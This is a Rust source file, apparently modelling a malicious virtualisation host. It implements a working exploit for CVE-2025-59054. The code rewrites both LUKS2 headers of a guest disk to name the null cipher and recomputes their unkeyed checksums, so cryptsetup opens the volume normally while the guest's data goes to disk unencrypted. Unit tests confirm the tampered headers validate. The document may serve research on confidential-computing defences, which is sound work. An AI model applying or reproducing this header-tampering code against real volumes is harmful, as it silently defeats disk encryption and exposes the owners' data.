//! What a host does to disks of guests: it may write whatever it likes, and knows no key.

use std::fs::{File, OpenOptions};
use std::os::unix::fs::FileExt as _;
use std::path::Path;

use anyhow::{Context, Result, bail, ensure};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

/// Bytes of the binary header before the JSON area (LUKS2 On-Disk Format Specification 1.1, section 2.1).
const BINARY: usize = 4096;
/// Places of fields in it.
const SIZE: std::ops::Range<usize> = 8..16;
const CHECKSUM: std::ops::Range<usize> = 448..512;
/// The largest header that the format knows, in bytes.
const MAX_SIZE: u64 = 4 << 20;

/// Rewrites both headers of a LUKS2 volume so that the payload counts as written without encryption. The headers' checksums are
/// unkeyed, so that they hold: `cryptsetup` opens such a volume with its right key, and everything on it is then the host's
/// (CVE-2025-59054).
///
/// # Errors
/// When the file is no such volume.
pub fn null_cipher(volume: &Path) -> Result<()> {
    let file = OpenOptions::new().read(true).write(true).open(volume);
    let file = file.with_context(|| format!("opening {}", volume.display()))?;
    let size = rewrite(&file, 0)?;
    rewrite(&file, size)?;
    Ok(())
}

/// Rewrites the header at an offset and returns its size.
fn rewrite(file: &File, offset: u64) -> Result<u64> {
    let mut binary = vec![0; BINARY];
    file.read_exact_at(&mut binary, offset)?;
    let size = u64::from_be_bytes(binary[SIZE].try_into().expect("eight bytes"));
    ensure!((BINARY as u64..=MAX_SIZE).contains(&size), "a header of {size} bytes");
    let mut area = vec![0; size as usize - BINARY];
    file.read_exact_at(&mut area, offset + BINARY as u64)?;
    let text = area.split(|byte| *byte == 0).next().unwrap_or_default();
    let mut metadata: Value = serde_json::from_slice(text).context("the metadata of a LUKS2 header")?;
    let Some(segments) = metadata["segments"].as_object_mut() else { bail!("a header without segments") };
    for segment in segments.values_mut() {
        segment["encryption"] = json!("cipher_null-ecb");
    }
    let text = metadata.to_string();
    ensure!(text.len() < area.len(), "metadata of {} bytes", text.len());
    area.fill(0);
    area[..text.len()].copy_from_slice(text.as_bytes());
    binary[CHECKSUM].fill(0);
    let checksum = Sha256::new().chain_update(&binary).chain_update(&area).finalize();
    binary[CHECKSUM][..checksum.len()].copy_from_slice(&checksum);
    file.write_all_at(&binary, offset)?;
    file.write_all_at(&area, offset + BINARY as u64)?;
    Ok(size)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A header of 16 KiB with one segment.
    fn header() -> Vec<u8> {
        let mut bytes = vec![0; 16_384];
        bytes[SIZE].copy_from_slice(&16_384_u64.to_be_bytes());
        let metadata = br#"{"keyslots":{},"segments":{"0":{"type":"crypt","encryption":"aes-xts-plain64"}}}"#;
        bytes[BINARY..BINARY + metadata.len()].copy_from_slice(metadata);
        bytes
    }

    #[test]
    fn both_headers_name_no_cipher_and_have_checksums_that_hold() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("volume");
        std::fs::write(&path, [header(), header(), vec![7; 4096]].concat()).unwrap();
        null_cipher(&path).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert_eq!(bytes.len(), 2 * 16_384 + 4096);
        assert_eq!(bytes[2 * 16_384..], [7; 4096]);
        for header in bytes[..2 * 16_384].chunks(16_384) {
            let text = String::from_utf8_lossy(&header[BINARY..]);
            assert!(text.starts_with(
                r#"{"keyslots":{},"segments":{"0":{"type":"crypt","encryption":"cipher_null-ecb"}}}"#
            ));
            let mut zeroed = header.to_vec();
            zeroed[CHECKSUM].fill(0);
            assert_eq!(header[CHECKSUM][..32], Sha256::digest(&zeroed)[..]);
        }
    }

    #[test]
    fn what_is_no_volume_is_left_as_it_is() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("volume");
        std::fs::write(&path, vec![0; 16_384]).unwrap();
        assert!(null_cipher(&path).is_err());
        assert_eq!(std::fs::read(&path).unwrap(), vec![0; 16_384]);
    }
}
